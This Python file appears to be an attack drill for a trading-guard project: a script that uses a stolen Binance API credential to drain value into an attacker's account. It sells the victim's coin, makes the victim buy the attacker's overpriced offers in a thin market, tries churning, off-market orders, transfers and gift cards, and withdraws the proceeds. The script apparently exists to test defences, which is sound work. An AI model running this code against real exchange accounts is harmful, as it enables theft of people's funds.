"""The thief of 2022: trades with a stolen credential and cannot withdraw from the victim.

He rests offers in a thin market from an account of his own, far above its price, sells the
victim's liquid coin and lets the victim buy his offers with the proceeds. Where that is
refused he tries what else the credential may do: smaller and simultaneous orders, offers at a
fair price for coins that nobody else wants, orders far off the market, churning, orders marked
as exits, and the doors that move value. At the end he withdraws what he got.
"""

import asyncio
from collections.abc import Awaitable
from typing import Any

import ccxt.async_support as ccxt
import msgspec

from tradelatch.drills.ccxt_client import binance
from tradelatch.drills.script import Credentials, read_brief, tell

THIEF = "thief"
SLICES = 20
SWEEPS = 4
CHURNS = 60
CHURNED = 60
"""How often he buys and sells for nothing but the cost, and how much of the coin each time."""


class Brief(msgspec.Struct, frozen=True):
    """The stolen credential, his own account, and what he is after.

    `take` is how much (quote) he means to let the victim spend in all, as in the case of 50 BTC
    of which 43 were gone; `markup` is how far above the market he offers.
    """

    victim: Credentials
    own: Credentials
    thin: str
    deep: str
    take: float
    markup: float


async def steal(brief: Brief) -> None:
    """The whole theft."""
    victim = binance(brief.victim.url, brief.victim.key, brief.victim.secret)
    own = binance(brief.own.url, brief.own.key, brief.own.secret)
    try:
        await asyncio.gather(victim.load_markets(), own.load_markets())
        await Theft(brief, victim, own).run()
    finally:
        await asyncio.gather(victim.close(), own.close())


class Theft:
    """One theft, step by step."""

    def __init__(self, brief: Brief, victim: Any, own: Any) -> None:
        self._brief, self._victim, self._own = brief, victim, own
        self._refusals: list[str] = []

    async def run(self) -> None:
        """All steps; the later ones only if the first did not get him what he is after."""
        fair = (await self._own.fetch_ticker(self._brief.thin))["ask"]
        await self._sell_liquid()
        left = self._brief.take
        for _ in range(SWEEPS):
            spent = await self._contra(fair * self._brief.markup, left)
            left -= spent
            if not spent or left < self._brief.take / 100:
                break
        if left > self._brief.take / 10:
            await self._make_do(fair, left)
        await self._leave()

    async def _make_do(self, fair: float, left: float) -> None:
        """What else the credential may do, one thing after another."""
        await self._contra(fair * 1.005, left)
        for step in (self._far_off_the_market, self._churn, self._other_doors):
            await asyncio.sleep(1.0)
            await step()
            self._tell_refusals()

    async def _sell_liquid(self) -> None:
        """Cancel what the owner has open and sell his liquid coin at market, in parts.

        Half of them are marked as exits, which draw on another amount behind the gate.
        """
        base = self._brief.deep.split("/")[0]
        await self._try(self._victim.cancel_all_orders(self._brief.deep), "cancel all")
        self._refusals.clear()
        held = (await self._victim.fetch_balance())["free"].get(base, 0)
        sold = 0.0
        for number in range(4):
            mark = {"clientOrderId": f"exit-{number}"} if number % 2 else None
            order = await self._order(
                self._victim, self._brief.deep, "market", "sell", held / 4, None, mark
            )
            sold += (order or {}).get("filled") or 0
            await asyncio.sleep(1.0)
        tell(THIEF, f"sold {sold:.4f} of the victim's {held:.4f} {base}", refused=not sold)

    async def _contra(self, price: float, money: float) -> float:
        """Offer at `price` from his own account and make the victim buy, many orders at once."""
        thin = self._brief.thin
        part = money / price / SLICES
        offers = [self._order(self._own, thin, "limit", "sell", part, price) for _ in range(SLICES)]
        resting = [order for order in await asyncio.gather(*offers) if order]
        tell(THIEF, f"rests {len(resting)} offers in {thin} at {price:.8f}")
        buys = [self._order(self._victim, thin, "limit", "buy", part, price) for _ in range(SLICES)]
        spent = sum((order or {}).get("cost") or 0 for order in await asyncio.gather(*buys))
        tell(THIEF, f"the victim bought for {spent:.4f}", refused=not spent)
        self._tell_refusals()
        if not spent and resting:
            await self._try(self._own.cancel_all_orders(thin), "cancel all")
        return float(spent)

    async def _far_off_the_market(self) -> None:
        """Orders on the deep market so far off that only a bid of his own would take them."""
        ticker = await self._own.fetch_ticker(self._brief.deep)
        for factor in (0.5, 0.8, 0.9):
            price = ticker["bid"] * factor
            await self._order(self._victim, self._brief.deep, "limit", "sell", 0.2, price)
        for factor in (1.1, 1.5):
            price = ticker["ask"] * factor
            await self._order(self._victim, self._brief.deep, "limit", "buy", 0.2, price)

    async def _churn(self) -> None:
        """Burn fees and spread: buy and sell the deep coin until that is refused."""
        rounds = 0
        for _ in range(CHURNS):
            await self._until_quoted()
            bought = await self._order(self._victim, self._brief.deep, "market", "buy", CHURNED)
            if bought is None:
                break
            rounds += 1
            # A little less than was filled: the fee was taken from the coin.
            coins = (bought["filled"] or 0) * 0.998
            if coins and not await self._order(
                self._victim, self._brief.deep, "market", "sell", coins
            ):
                break
        tell(THIEF, f"churned {self._brief.deep} {rounds} times", refused=rounds < CHURNS)

    async def _until_quoted(self) -> None:
        """Let the makers come back: in a swept book the guard sees no deep market any more."""
        for _ in range(20):
            ticker = await self._own.fetch_ticker(self._brief.deep)
            is_narrow = ticker["ask"] <= ticker["bid"] * 1.002
            await asyncio.sleep(0.3)  # so that the signer has seen it too
            if is_narrow:
                return

    async def _other_doors(self) -> None:
        """Everything else by which value could leave the victim's account."""
        await self._try(self._victim.withdraw("BTC", 1, "thief"), "withdraw")
        move = self._victim.sapi_post_asset_transfer(
            {"type": "MAIN_FUNDING", "asset": "BTC", "amount": 1}
        )
        await self._try(move, "transfer")
        await self._try(
            self._victim.sapi_post_giftcard_createcode({"token": "BTC", "amount": 1}), "gift card"
        )

    async def _leave(self) -> None:
        """Withdraw what his own account got."""
        balance = await self._own.fetch_balance()
        loot = balance["free"].get("BTC", 0)
        if loot > 0 and await self._try(self._own.withdraw("BTC", loot, "elsewhere"), "withdraw"):
            tell(THIEF, f"withdrew {loot:.4f} BTC")
        else:
            tell(THIEF, "leaves with nothing", refused=True)

    async def _order(
        self,
        client: Any,
        symbol: str,
        kind: str,
        side: str,
        amount: float,
        price: float | None = None,
        extra: dict[str, str] | None = None,
    ) -> Any:
        """ccxt's order, None if it was refused."""
        amount = client.amount_to_precision(symbol, amount)
        limit = client.price_to_precision(symbol, price) if price else None
        made = client.create_order(symbol, kind, side, amount, limit, extra or {})
        return await self._try(made, f"{side} {symbol}")

    async def _try(self, call: Awaitable[Any], what: str) -> Any:
        try:
            return await call
        except ccxt.BaseError as error:
            self._refusals.append(f"{what}: {type(error).__name__}: {_message(error)}")
            return None

    def _tell_refusals(self) -> None:
        """One line for a whole volley that was refused alike."""
        if self._refusals:
            more = f" (and {len(self._refusals) - 1} more)" if len(self._refusals) > 1 else ""
            tell(THIEF, f"{self._refusals[0][:400]}{more}", refused=True)
        self._refusals.clear()


def _message(error: Exception) -> str:
    """What the exchange said, without ccxt's and Binance's wrapping."""
    text = str(error).removeprefix("binance ")
    try:
        return str(msgspec.json.decode(text)["msg"])
    except (msgspec.DecodeError, KeyError, TypeError):
        return text


if __name__ == "__main__":
    asyncio.run(steal(read_brief(Brief)))
